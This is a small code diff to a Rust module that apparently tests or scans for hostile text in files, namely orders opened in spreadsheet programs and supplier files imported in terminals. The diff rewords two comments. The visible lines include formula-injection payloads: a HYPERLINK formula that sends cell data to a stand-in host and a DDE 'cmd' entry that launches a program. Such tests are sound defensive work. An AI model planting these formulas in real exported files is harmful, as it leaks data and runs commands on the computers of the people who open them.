@@ -1,4 +1,4 @@
-//! Hostile text that others open: orders in a spreadsheet program, and supplier files imported on a terminal.
+//! Hostile text in files: orders opened in a spreadsheet program, and supplier files imported in a terminal.
 
 use crate::{
     report::Report,
@@ -8,7 +8,7 @@ use crate::{
 use serde_json::json;
 use std::fs;
 
-/// Addresses that a spreadsheet program would run, with some separator.
+/// Addresses that a spreadsheet program would run as formulas, depending on the separator.
 const FORMULAS: [&str; 12] = [
     "=HYPERLINK(\"https://x.example/\"&A1)",
     "+cmd|' /C calc'!A0",
